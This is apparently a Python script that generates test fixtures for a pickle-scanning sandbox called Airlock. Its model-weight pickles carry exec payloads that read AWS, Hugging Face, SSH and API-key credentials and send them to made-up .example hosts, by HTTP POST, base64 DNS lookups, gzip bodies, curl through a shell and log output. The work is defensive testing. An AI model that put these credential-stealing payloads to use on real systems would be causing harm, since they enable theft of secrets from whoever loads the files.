#!/usr/bin/env python3
"""Writes credential thieves for Airlock's honeytoken tests (issue 15): pickles whose payload reads a credential a
real host keeps (a planted honeytoken inside the sandbox) and sends it out, the ways thieves do: an HTTP request, a
base64'd DNS name, a gzip'd body, `curl -d` through a shell, the logs. Writes manifest.json: for each file, what
`airlock probe` must find today (`now`: the read, a refused exec's arguments, the logs) and what it must find once the
emulated network answers (`network`).

    thieves.py OUTDIR [--canary PATH --port N]

Python 3 standard library only; nothing is unpickled here. Every destination is a made-up name under `.example` (the
emulated network answers it inside the sandbox; outside, the names do not resolve) and every payload swallows its
errors, so the loader goes on. Each payload first checks that it runs in the test's world (HOME /home/mlsvc) and raises
otherwise: loaded on a real host by mistake, it reads and sends nothing.
"""
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import pickles  # noqa: E402
from pickles import Call, Global  # noqa: E402

SAMPLES = []


# Outside the test's world (HOME /home/mlsvc, the planted tokens) a payload does nothing: loaded by mistake on a real
# host it must not read or send that host's own credentials.
GUARD = "import os\nif os.environ.get('HOME') != '/home/mlsvc':\n    raise ImportError('not the test world')\n"


def run(code):
    # One namespace for the payload's definitions and statements (exec without one splits globals and locals).
    return Call(Global("builtins", "exec"), (GUARD + code, {}))


def sample(name, code, now, network=(), benign=False):
    value = {"weights": [0.5, 0.25], "payload": run(code)} if code else {"weights": [0.5, 0.25], "epoch": 3}
    data = pickles.assemble(value, 2)[0]
    SAMPLES.append({"name": name, "file": name + ".pkl", "now": list(now), "network": list(network),
                    "benign": benign, "data": data})


HTTP = """
def _send(host, body, headers=b''):
    import socket
    try:
        s = socket.create_connection((host, 80), timeout=3)
        s.sendall(b'POST /v1/ingest HTTP/1.1\\r\\nHost: ' + host.encode() + b'\\r\\n' + headers +
                  b'Content-Length: ' + str(len(body)).encode() + b'\\r\\n\\r\\n' + body)
        s.close()
    except Exception:
        pass
"""

READ = """
import os
def _read(rel):
    try:
        with open(os.path.join(os.path.expanduser('~'), rel), 'rb') as f:
            return f.read()
    except Exception:
        return b''
"""


def build():
    sample("aws_http", HTTP + READ + "_send('telemetry.modelhub-cdn.example', _read('.aws/credentials'))\n",
           now=["dynamic.secrets"], network=["dynamic.exfiltration"])
    sample("hf_env_http", HTTP + "import os\n_send('hf-mirror.example', os.environ.get('HF_TOKEN', '').encode())\n",
           now=[], network=["dynamic.exfiltration"])
    sample("hf_file_json", HTTP + READ +
           "import json\n_send('api.metrics-sink.example', json.dumps({'t': _read('.cache/huggingface/token')"
           ".decode().strip(), 'h': os.uname().nodename}).encode(), b'Content-Type: application/json\\r\\n')\n",
           now=["dynamic.secrets"], network=["dynamic.exfiltration"])
    sample("aws_gzip", HTTP + READ +
           "import gzip\n_send('upload.weights-cache.example', gzip.compress(_read('.aws/credentials')),"
           " b'Content-Encoding: gzip\\r\\n')\n",
           now=["dynamic.secrets"], network=["dynamic.exfiltration"])
    sample("aws_dns", READ + """
import base64, socket
key = [l.split('=', 1)[1].strip() for l in _read('.aws/credentials').decode().splitlines()
       if l.startswith('aws_secret_access_key')]
text = base64.urlsafe_b64encode(key[0].encode() if key else b'').decode().rstrip('=')
labels = [text[i:i + 30] for i in range(0, len(text), 30)]
try:
    socket.getaddrinfo('.'.join(labels) + '.q.exfil-collector.example', 80)
except Exception:
    pass
""", now=["dynamic.secrets"], network=["dynamic.exfiltration"])
    sample("ssh_curl", READ + """
import subprocess
try:
    subprocess.run(['curl', '-s', '-d', _read('.ssh/id_ed25519').decode(), 'https://keys.paste-bin.example/new'],
                   timeout=3, capture_output=True)
except Exception:
    pass
""", now=["dynamic.secrets", "dynamic.exfiltration", "dynamic.exec"])
    sample("hf_env_shell", """
import os
try:
    os.system('curl -s https://hf-mirror.example/?t=' + os.environ.get('HF_TOKEN', ''))
except Exception:
    pass
""", now=["dynamic.exfiltration", "dynamic.exec"])
    sample("env_logs", """
import os, sys, base64
sys.stderr.write('debug: ' + base64.b64encode(os.environ.get('OPENAI_API_KEY', '').encode()).decode() + '\\n')
""", now=["dynamic.exfiltration"])
    sample("only_reads", READ + """
for rel in ('.ssh', '.ssh/id_ed25519', '.netrc', '.docker/config.json', '.kube/config'):
    try:
        p = os.path.join(os.path.expanduser('~'), rel)
        os.listdir(p) if os.path.isdir(p) else _read(rel)
    except Exception:
        pass
""", now=["dynamic.secrets"])
    sample("reads_environ", """
try:
    with open('/proc/self/environ', 'rb') as f:
        f.read()
except Exception:
    pass
""", now=["dynamic.secrets"])
    sample("benign", None, now=[], benign=True)


def main():
    args = sys.argv[1:]
    while len(args) >= 2 and args[-2] in ("--canary", "--port"):
        args = args[:-2]
    if len(args) != 1:
        sys.exit("usage: thieves.py OUTDIR [--canary PATH] [--port N]")
    out = args[0]
    os.makedirs(out, exist_ok=True)
    build()
    manifest = []
    for s in SAMPLES:
        with open(os.path.join(out, s["file"]), "wb") as f:
            f.write(s.pop("data"))
        manifest.append(s)
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)


if __name__ == "__main__":
    main()
